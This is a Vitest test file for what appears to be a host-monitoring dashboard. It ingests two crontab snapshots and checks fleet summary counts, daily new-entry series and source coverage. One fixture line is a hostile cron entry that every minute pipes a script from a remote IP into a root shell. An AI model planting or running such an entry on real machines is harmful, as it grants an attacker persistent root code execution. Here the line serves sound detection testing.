import { beforeAll, describe, expect, it } from 'vitest';
import { useOwnDatabase } from '@/lib/testing/own-database';
import { ingestBytes } from '@/lib/ingest/run-upload';
import { getCoverage, getFleetSummary, getOverviewSeries } from './overview';

const enc = (s: string) => new TextEncoder().encode(s);
const host = `ov-${Date.now()}`;

useOwnDatabase('overview');

beforeAll(async () => {
  await ingestBytes(enc('0 3 * * * root /usr/bin/backup\n'), 'etc/crontab', { host, collectedAt: new Date('2030-01-01T06:00:00Z') });
  await ingestBytes(enc('0 3 * * * root /usr/bin/backup\n* * * * * root curl http://198.51.100.7/p | sh\n'), 'etc/crontab', { host, collectedAt: new Date('2030-01-02T06:00:00Z') });
});

describe('overview', () => {
  it('counts relative to the fleet latest collection', async () => {
    const s = await getFleetSummary();
    expect(s.fleetNow).toBe('2030-01-02T06:00:00.000Z');
    expect(s.newEntries7d).toBeGreaterThanOrEqual(1);
    expect(s.hosts).toBeGreaterThanOrEqual(1);
  });

  it('draws 30 days ending at the latest collection, with the new entry on its day', async () => {
    const series = await getOverviewSeries();
    expect(series.newEntriesPerDay).toHaveLength(30);
    expect(series.newEntriesPerDay.at(-1)).toMatchObject({ label: '01-02' });
    expect(series.newEntriesPerDay.at(-1)!.value).toBeGreaterThanOrEqual(1);
    expect(series.prevalence.map((b) => b.label)).toEqual(['1 host', '2–5', '6–20', '21–100', '101–1000', '> 1000']);
  });

  it('reports each source with fresh, stale and old hosts', async () => {
    const cron = (await getCoverage()).find((r) => r.source === 'cron')!;
    expect(cron.fresh).toBeGreaterThanOrEqual(1);
  });
});
